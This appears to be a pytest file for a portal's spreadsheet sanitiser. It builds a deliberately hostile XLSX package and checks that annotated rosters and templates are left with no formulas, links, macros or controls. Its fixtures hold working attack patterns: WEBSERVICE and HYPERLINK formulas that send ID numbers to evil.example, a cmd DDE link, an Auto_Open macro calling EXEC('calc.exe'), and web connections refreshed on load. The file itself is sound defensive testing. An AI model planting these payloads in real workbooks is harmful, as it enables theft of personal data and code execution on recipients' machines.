"""Workbooks the portal hands out run nothing: the annotated roster keeps the values the clerk's
formulas showed but no formula, external link, connection, macro or control (enrollment/annotate/
inert.py), and the blank template neutralises the texts it takes from the plan."""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from enrollment.annotate import annotate_roster
from enrollment.annotate.inert import Inert, formula_is_inert
from enrollment.workbooks import roster_template
from plans.engine.findings import Finding
from plans.engine.rules import parse_rules
from tests.factories import make_id_number

DATA = Path(__file__).resolve().parent / "data"
PLANS = Path(__file__).resolve().parents[2] / "fixtures" / "plans"
FORMULA = re.compile(rb"<([\w.-]+:)?f[\s/>]")

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships"
CT = "application/vnd.openxmlformats-officedocument.spreadsheetml."
LEAK = "_xlfn.WEBSERVICE(&quot;http://evil.example/?id=&quot;&amp;B2)"


def rels(*items: tuple[str, str, str] | tuple[str, str, str, str]) -> str:
    body = "".join(
        f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"'
        + (' TargetMode="External"' if len(extra) else "")
        + "/>"
        for rid, kind, target, *extra in items
    )
    return f'<Relationships xmlns="{PKG}">{body}</Relationships>'


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def hostile_package() -> bytes:
    """A roster as a hostile or careless clerk could send it, written by hand: formulas of
    every kind (one calling WEBSERVICE with the ID number, shared, array, dynamic-array, one
    hidden in CDATA, one naming an external workbook), a DDE external link, a web data
    connection refreshed on opening, a query table, a calculation chain, a VBA project, an
    ActiveX check box, a linked OLE object, rules and names that call out, a macro sheet."""
    people = [("张三", make_id_number()), ("李四", make_id_number()), ("王五", make_id_number())]
    rows = (
        "<row r='1'>"
        + "".join(
            inline(f"{col}1", name)
            for col, name in zip(
                "ABCDEFGH",
                ["姓名", "身份证号", "份数", "会费", "回传", "引用", "序号", "备注"],
                strict=True,
            )
        )
        + "</row>"
    )
    rows += (
        f"<row r='2'>{inline('A2', people[0][0])}{inline('B2', people[0][1])}"
        "<c r='C2'><v>1</v></c>"
        "<c r='D2'><f t='shared' ref='D2:D4' si='0'>C2*110</f><v>110</v></c>"
        f"<c r='E2' t='str'><f>{LEAK}</f><v>已回传</v></c>"
        "<c r='F2'><f>[1]Sheet1!$A$1</f><v>7</v></c>"
        "<c r='G2' cm='1'><f t='array' ref='G2'>_xlfn.SEQUENCE(1)</f><v>1</v></c>"
        "<c r='H2' t='str'><f><![CDATA[_xlfn.WEBSERVICE(\"http://evil.example/\")]]></f>"
        "<v>备注一</v></c></row>"
    )
    rows += (
        f"<row r='3'>{inline('A3', people[1][0])}{inline('B3', people[1][1])}"
        "<c r='C3'><v>2</v></c>"
        "<c r='D3'><f t='shared' si='0'/><v>220</v></c>"
        f"<c r='E3' t='str' s='0'><f>{LEAK.replace('B2', 'B3')}</f></c>"
        "<c r='F3'><f t='array' ref='F3:F4'>C3:C4*2</f><v>4</v></c>"
        "<c r='H3' t='e'><f>1/0</f><v>#DIV/0!</v></c></row>"
    )
    rows += (
        f"<row r='4'>{inline('A4', people[2][0])}{inline('B4', people[2][1])}"
        "<c r='C4'><v>3</v></c><c r='D4'><f t='shared' si='0'/><v>330</v></c>"
        "<c r='F4'><v>6</v></c><c r='H4' t='b'><f>C4&gt;2</f><v>1</v></c></row>"
    )
    tail = (
        "<conditionalFormatting sqref='B2:B4'><cfRule type='expression' priority='1'>"
        f"<formula>ISERROR({LEAK})</formula></cfRule></conditionalFormatting>"
        "<conditionalFormatting sqref='C2:C4'><cfRule type='expression' priority='2'>"
        "<formula>$C2&gt;2</formula></cfRule></conditionalFormatting>"
        "<dataValidations count='2'>"
        "<dataValidation type='custom' sqref='B2:B4'>"
        f"<formula1>ISNUMBER({LEAK})</formula1></dataValidation>"
        "<dataValidation type='list' sqref='H2:H9'><formula1>&quot;是,否&quot;</formula1>"
        "</dataValidation></dataValidations>"
        "<hyperlinks><hyperlink ref='A1' r:id='rId1'/></hyperlinks>"
        "<pageMargins left='0.7' right='0.7' top='0.75' bottom='0.75' header='0.3' footer='0.3'/>"
        "<oleObjects><oleObject progId='Package' link='[1]!&apos;&apos;' "
        "oleUpdate='OLEUPDATE_ALWAYS' shapeId='1026'/></oleObjects>"
        "<mc:AlternateContent xmlns:mc='http://schemas.openxmlformats.org/markup-compatibility/2006'>"
        "<mc:Choice Requires='x14'><controls><control shapeId='1025' r:id='rId3' "
        "name='CheckBox1'/></controls></mc:Choice></mc:AlternateContent>"
        "<tableParts count='1'><tablePart r:id='rId4'/></tableParts>"
        "<extLst><ext uri='{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}' "
        "xmlns:x14='http://schemas.microsoft.com/office/spreadsheetml/2009/9/main'>"
        "<x14:dataValidations xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main' "
        "count='1'><x14:dataValidation type='custom'><x14:formula1>"
        f"<xm:f>ISNUMBER({LEAK})</xm:f></x14:formula1><xm:sqref>C2:C4</xm:sqref>"
        "</x14:dataValidation></x14:dataValidations></ext></extLst>"
    )
    roster = (
        f'<worksheet xmlns="{MAIN}" xmlns:r="{REL}"><dimension ref="A1:H4"/>'
        f"<sheetData>{rows}</sheetData>{tail}</worksheet>"
    )
    totals = (
        f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData><x:row r="1">'
        '<x:c r="A1" t="inlineStr"><x:is><x:t>合计</x:t></x:is></x:c>'
        '<x:c r="B1"><x:f>SUM(名单!D2:D4)</x:f><x:v>660</x:v></x:c>'
        "</x:row></x:sheetData></x:worksheet>"
    )
    macro = (
        '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" '
        f'xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c>'
        '<c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>'
    )
    workbook = (
        f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>'
        '<sheet name="名单" sheetId="1" r:id="rId1"/><sheet name="统计" sheetId="2" r:id="rId2"/>'
        '<sheet name="宏" sheetId="3" state="hidden" r:id="rId8"/></sheets>'
        '<externalReferences><externalReference r:id="rId3"/></externalReferences>'
        "<definedNames>"
        f'<definedName name="leak">{LEAK.replace("B2", "名单!$B$2")}</definedName>'
        "<definedName name=\"dde\">cmd|'/c calc'!A0</definedName>"
        '<definedName name="elsewhere">[1]Sheet1!$A$1</definedName>'
        "<definedName name=\"quoted\">'[1]Other Sheet'!$A$1</definedName>"
        '<definedName name="hidden_call">_xlfn.WEBSERVICE&#40;"http://evil.example/"&#41;'
        "</definedName>"
        '<definedName name="ids">名单!$B$2:$B$4</definedName>'
        "<definedName name=\"parens_in_name\">'统计 (2)'!$A$1</definedName>"
        '<definedName name="rate">0.5</definedName>'
        '<definedName name="_xlnm.Print_Area" localSheetId="0">名单!$A$1:$H$4</definedName>'
        '<definedName name="_xlnm.Auto_Open">宏!$A$1</definedName>'
        '</definedNames><calcPr calcId="191029" fullCalcOnLoad="1"/></workbook>'
    )
    parts = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{CT}worksheet+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet2.xml" ContentType="{CT}worksheet+xml"/>'
            '<Override PartName="/xl/macrosheets/sheet1.xml" '
            'ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
            '<Override PartName="/xl/externalLinks/externalLink1.xml" '
            f'ContentType="{CT}externalLink+xml"/>'
            f'<Override PartName="/xl/connections.xml" ContentType="{CT}connections+xml"/>'
            f'<Override PartName="/xl/calcChain.xml" ContentType="{CT}calcChain+xml"/>'
            f'<Override PartName="/xl/tables/table1.xml" ContentType="{CT}table+xml"/>'
            '<Override PartName="/xl/queryTables/queryTable1.xml" '
            f'ContentType="{CT}queryTable+xml"/>'
            '<Override PartName="/xl/ctrlProps/ctrlProp1.xml" '
            'ContentType="application/vnd.ms-excel.controlproperties+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": rels(("rId1", f"{REL}/officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": workbook,
        "xl/_rels/workbook.xml.rels": rels(
            ("rId1", f"{REL}/worksheet", "worksheets/sheet1.xml"),
            ("rId2", f"{REL}/worksheet", "worksheets/sheet2.xml"),
            ("rId3", f"{REL}/externalLink", "externalLinks/externalLink1.xml"),
            ("rId4", f"{REL}/connections", "connections.xml"),
            ("rId5", f"{REL}/calcChain", "calcChain.xml"),
            ("rId6", f"{MS_REL}/vbaProject", "vbaProject.bin"),
            ("rId8", f"{MS_REL}/xlMacrosheet", "macrosheets/sheet1.xml"),
        ),
        "xl/worksheets/sheet1.xml": roster,
        "xl/worksheets/_rels/sheet1.xml.rels": rels(
            ("rId1", f"{REL}/hyperlink", "https://www.example.org/help", "External"),
            ("rId2", f"{REL}/image", "http://evil.example/pixel.png", "External"),
            ("rId3", f"{REL}/ctrlProp", "../ctrlProps/ctrlProp1.xml"),
            ("rId4", f"{REL}/table", "../tables/table1.xml"),
        ),
        "xl/worksheets/sheet2.xml": totals,
        "xl/macrosheets/sheet1.xml": macro,
        "xl/externalLinks/externalLink1.xml": (
            f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
            '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
        ),
        "xl/externalLinks/_rels/externalLink1.xml.rels": rels(
            ("rId1", f"{REL}/externalLinkPath", "http://evil.example/book.xlsx", "External")
        ),
        "xl/connections.xml": (
            f'<connections xmlns="{MAIN}"><connection id="1" name="web" type="4" '
            'refreshOnLoad="1"><webPr url="http://evil.example/?q=1"/></connection>'
            "</connections>"
        ),
        "xl/calcChain.xml": f'<calcChain xmlns="{MAIN}"><c r="D2" i="1"/></calcChain>',
        "xl/vbaProject.bin": "Attribute VB_Name = evil",
        "xl/tables/table1.xml": (
            f'<table xmlns="{MAIN}" id="1" name="Q" displayName="Q" ref="A1:H4" '
            'tableType="queryTable" connectionId="1"><autoFilter ref="A1:H4"/>'
            '<tableColumns count="8">'
            + "".join(
                f'<tableColumn id="{i}" name="{name}" queryTableFieldId="{i}">'
                + (
                    f"<calculatedColumnFormula>{LEAK}</calculatedColumnFormula>"
                    if name == "回传"
                    else ""
                )
                + "</tableColumn>"
                for i, name in enumerate(
                    ["姓名", "身份证号", "份数", "会费", "回传", "引用", "序号", "备注"], 1
                )
            )
            + "</tableColumns></table>"
        ),
        "xl/tables/_rels/table1.xml.rels": rels(
            ("rId1", f"{REL}/queryTable", "../queryTables/queryTable1.xml")
        ),
        "xl/queryTables/queryTable1.xml": (
            f'<queryTable xmlns="{MAIN}" name="q" connectionId="1" refreshOnLoad="1" '
            'autoFormatId="16" applyNumberFormats="0"/>'
        ),
        "xl/ctrlProps/ctrlProp1.xml": (
            '<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"'
            ' objectType="CheckBox" fmlaLink="$A$1"/>'
        ),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in parts.items():
            zf.writestr(name, text)
    return out.getvalue()


FINDINGS = [
    Finding("id_checksum", "error", 3, "身份证号", "身份证号校验位不对", 1),
    Finding("duplicate_in_file", "error", 2, None, "与第3行重复"),
]


def annotate(source: bytes) -> bytes:
    return annotate_roster(source, sheet_name="名单", findings=FINDINGS, summary={})


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def assert_runs_nothing(files: dict[str, bytes]) -> None:
    for name, data in files.items():
        assert not FORMULA.search(data), f"a formula is left in {name}"
        assert b"WEBSERVICE" not in data, name
        if name.endswith(".rels"):
            for rel in re.findall(rb"<Relationship\b[^>]*>", data):
                if b'TargetMode="External"' in rel:
                    assert rel.count(b"/hyperlink") == 1, (name, rel)
    dropped = ("xl/externalLinks/", "xl/connections.xml", "xl/calcChain.xml", "xl/queryTables/")
    assert not [name for name in files if name.startswith(dropped)]
    assert not [name for name in files if "vbaProject" in name or "ctrlProps" in name]


# --- the annotated roster ------------------------------------------------------------------------


def test_hostile_roster_is_annotated_without_anything_that_runs():
    files = parts(annotate(hostile_package()))
    assert_runs_nothing(files)

    types = files["[Content_Types].xml"].decode()
    assert "macroEnabled" not in types
    for gone in ("externalLink1", "connections", "calcChain", "queryTable1", "ctrlProp1"):
        assert gone not in types
    assert "/xl/tables/table1.xml" in types

    workbook = files["xl/workbook.xml"].decode()
    assert "externalReference" not in workbook
    names = dict(re.findall(r'<definedName name="([^"]+)"[^>]*>([^<]*)<', workbook))
    for gone in ("leak", "dde", "elsewhere", "quoted", "hidden_call"):
        assert gone not in names, gone
    assert names["ids"] == "名单!$B$2:$B$4"
    assert names["parens_in_name"] == "'统计 (2)'!$A$1"
    assert names["rate"] == "0.5"
    assert names["_xlnm.Print_Area"] == "名单!$A$1:$H$4"

    workbook_rels = files["xl/_rels/workbook.xml.rels"].decode()
    assert "externalLink" not in workbook_rels and "connections" not in workbook_rels
    assert "vbaProject" not in workbook_rels and "calcChain" not in workbook_rels
    assert "macrosheets/sheet1.xml" in workbook_rels  # kept, emptied of its macros

    sheet = files["xl/worksheets/sheet1.xml"].decode()
    for gone in ("oleObject", "control", "ISERROR", "ISNUMBER", "extLst", ' cm="'):
        assert gone not in sheet, gone
    assert "<formula>$C2&gt;2</formula>" in sheet  # a rule that only compares stays
    assert "&quot;是,否&quot;" in sheet and '<dataValidations count="1">' in sheet
    assert "<hyperlink ref='A1' r:id='rId1'/>" in sheet
    sheet_rels = files["xl/worksheets/_rels/sheet1.xml.rels"].decode()
    assert "https://www.example.org/help" in sheet_rels
    assert "pixel.png" not in sheet_rels and "ctrlProp" not in sheet_rels
    assert "tables/table1.xml" in sheet_rels

    table = files["xl/tables/table1.xml"].decode()
    assert "queryTable" not in table and "connectionId" not in table
    assert "calculatedColumnFormula" not in table
    assert b"queryTable" not in files.get("xl/tables/_rels/table1.xml.rels", b"")


def test_cached_values_are_kept_and_formula_only_cells_are_empty():
    content = annotate(hostile_package())
    wb = openpyxl.load_workbook(io.BytesIO(content))
    ws = wb["名单"]
    assert [ws[f"D{r}"].value for r in (2, 3, 4)] == [110, 220, 330]  # a shared formula
    assert ws["E2"].value == "已回传" and ws["E2"].data_type == "s"
    assert ws["E3"].value is None  # WEBSERVICE without a cached value
    assert ws["F2"].value == 7  # read from another workbook once, kept as a number
    assert [ws["F3"].value, ws["F4"].value] == [4, 6]  # an array formula
    assert ws["G2"].value == 1
    assert ws["H2"].value == "备注一"  # the formula hidden in CDATA is gone, its value kept
    assert ws["H3"].value == "#DIV/0!"
    assert ws["H4"].value is True
    assert wb["统计"]["B1"].value == 660 and wb["统计"]["A1"].value == "合计"
    # The marks are still made.
    assert ws["B3"].comment is not None and "身份证号校验位不对" in ws["B3"].comment.text
    macro = parts(content)["xl/macrosheets/sheet1.xml"]
    assert b"EXEC" not in macro and b"HALT" not in macro


def test_roster_saved_by_libreoffice_keeps_its_values_without_formulas():
    # Written by openpyxl with formulas (WEBSERVICE on the ID number, IF, an array formula, a
    # WEBSERVICE conditional format, validation and defined name, a second sheet summing the
    # first), then opened and saved by LibreOffice Calc 7.4, which stores the cached values:
    #   soffice --headless --convert-to xlsx:"Calc MS Excel 2007 XML" formulas.xlsx
    source = (DATA / "formulas-libreoffice.xlsx").read_bytes()
    assert FORMULA.search(parts(source)["xl/worksheets/sheet1.xml"])
    content = annotate_roster(source, sheet_name="名单", findings=FINDINGS, summary={})
    files = parts(content)
    assert_runs_nothing(files)
    assert "leak" not in files["xl/workbook.xml"].decode()
    wb = openpyxl.load_workbook(io.BytesIO(content))
    ws = wb["名单"]
    rows = [[cell.value for cell in row] for row in ws.iter_rows(min_row=2, max_row=4)]
    assert [row[4] for row in rows] == [110, 220, 330]
    assert [row[6] for row in rows] == ["一份", "多份", "多份"]
    assert [row[7] for row in rows] == [2, 4, 6]
    assert all(row[5] == "#N/A" for row in rows)
    assert wb["统计"]["B1"].value == 660 and wb["统计"]["B2"].value == "张三等"
    assert [str(dv.sqref) for dv in ws.data_validations.dataValidation] == ["G2:G10"]


def test_roster_written_by_openpyxl_loses_its_formulas():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "名单"
    ws.append(["姓名", "身份证号", "回传"])
    ws.append(["张三", make_id_number(), '=_xlfn.WEBSERVICE("http://evil.example/?"&B2)'])
    ws.append(["李四", make_id_number(), '=HYPERLINK("http://evil.example/?"&B3,"点击")'])
    out = io.BytesIO()
    wb.save(out)
    content = annotate_roster(out.getvalue(), sheet_name="名单", findings=[], summary={})
    assert_runs_nothing(parts(content))
    result = openpyxl.load_workbook(io.BytesIO(content))["名单"]
    assert result["C2"].value is None and result["C3"].value is None
    assert result["B2"].value == ws["B2"].value


@pytest.mark.parametrize(
    ("formula", "inert"),
    [
        ("$A$1", True),
        ("Sheet1!$A$1:$B$9", True),
        ("'统计 (2)'!$A$1", True),
        ("&quot;是,否&quot;", True),
        ('"a(b"', True),
        ("0.5", True),
        ("SUM(A1:A3)", False),
        ("_xlfn.WEBSERVICE(&quot;http://x/&quot;)", False),
        ("WEBSERVICE&#40;A1&#41;", False),
        ("[1]Sheet1!A1", False),
        ("'[1]My Sheet'!A1", False),
        ("'C:\\x\\[book.xlsx]S'!A1", False),
        ("cmd|'/c calc'!A0", False),
        ("'unclosed", False),
    ],
)
def test_which_formulas_are_inert(formula, inert):
    assert formula_is_inert(formula) is inert


# --- the template --------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝"])
def test_template_neutralises_a_plan_name_that_looks_like_a_formula(start):
    data = json.loads((PLANS / "jilin-allowance-2020.json").read_text("utf-8"))
    rules = parse_rules(data["versions"][0]["rules"])
    name = f'{start}HYPERLINK("http://evil.example/?"&B3,"计划")'
    content = roster_template(rules=rules, plan_code="x", plan_name=name)
    assert not any(FORMULA.search(data) for data in parts(content).values())
    wb = openpyxl.load_workbook(io.BytesIO(content))
    title = wb["参保名单"]["A1"]
    assert title.data_type == "s" and title.value == f"'{name}参保名单"
    notes = wb["填表说明"]
    assert notes["A1"].value == f"'{name}参保名单填表说明"
    plan_row = next(row for row in notes.iter_rows(values_only=True) if row[0] == "计划")
    assert plan_row[1].startswith(f"'{start}")


def test_pictures_and_charts_linked_from_outside_are_cut_off():
    drawing_ns = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    chart_ns = 'xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"'
    files = {
        "_rels/.rels": rels(("rId1", f"{REL}/officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": "<workbook/>",
        "xl/_rels/workbook.xml.rels": rels(("rId1", f"{REL}/worksheet", "worksheets/sheet1.xml")),
        "xl/worksheets/sheet1.xml": "<worksheet/>",
        "xl/worksheets/_rels/sheet1.xml.rels": rels(
            ("rId1", f"{REL}/drawing", "../drawings/drawing1.xml")
        ),
        "xl/drawings/drawing1.xml": (
            f'<xdr:wsDr {drawing_ns} xmlns:r="{REL}" xmlns:xdr="x"><a:blip r:embed="rId2" '
            'r:link="rId1"/></xdr:wsDr>'
        ),
        "xl/drawings/_rels/drawing1.xml.rels": rels(
            ("rId1", f"{REL}/image", "http://evil.example/track.png", "External"),
            ("rId2", f"{REL}/image", "../media/image1.png"),
            ("rId3", f"{REL}/chart", "../charts/chart1.xml"),
        ),
        "xl/media/image1.png": "png",
        "xl/charts/chart1.xml": (
            f'<c:chartSpace {chart_ns} xmlns:r="{REL}"><c:chart/><c:externalData r:id="rId1">'
            '<c:autoUpdate val="1"/></c:externalData></c:chartSpace>'
        ),
        "xl/charts/_rels/chart1.xml.rels": rels(
            ("rId1", f"{REL}/oleObject", "file:///C:/secret/book.xlsx", "External")
        ),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for name, text in files.items():
            zf.writestr(name, text)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as zin:
        plan = Inert.of(zin, keep={"xl/workbook.xml", "xl/worksheets/sheet1.xml"})
        drawing = plan.rewrite("xl/drawings/drawing1.xml", zin.read("xl/drawings/drawing1.xml"))
        chart = plan.rewrite("xl/charts/chart1.xml", zin.read("xl/charts/chart1.xml"))
        drawing_rels = plan.rels(
            "xl/drawings/_rels/drawing1.xml.rels",
            zin.read("xl/drawings/_rels/drawing1.xml.rels").decode(),
        )
    assert b'r:embed="rId2"' in drawing and b"r:link" not in drawing
    assert b"externalData" not in chart and b"autoUpdate" not in chart
    assert "track.png" not in drawing_rels and "image1.png" in drawing_rels
    assert not plan.dropped
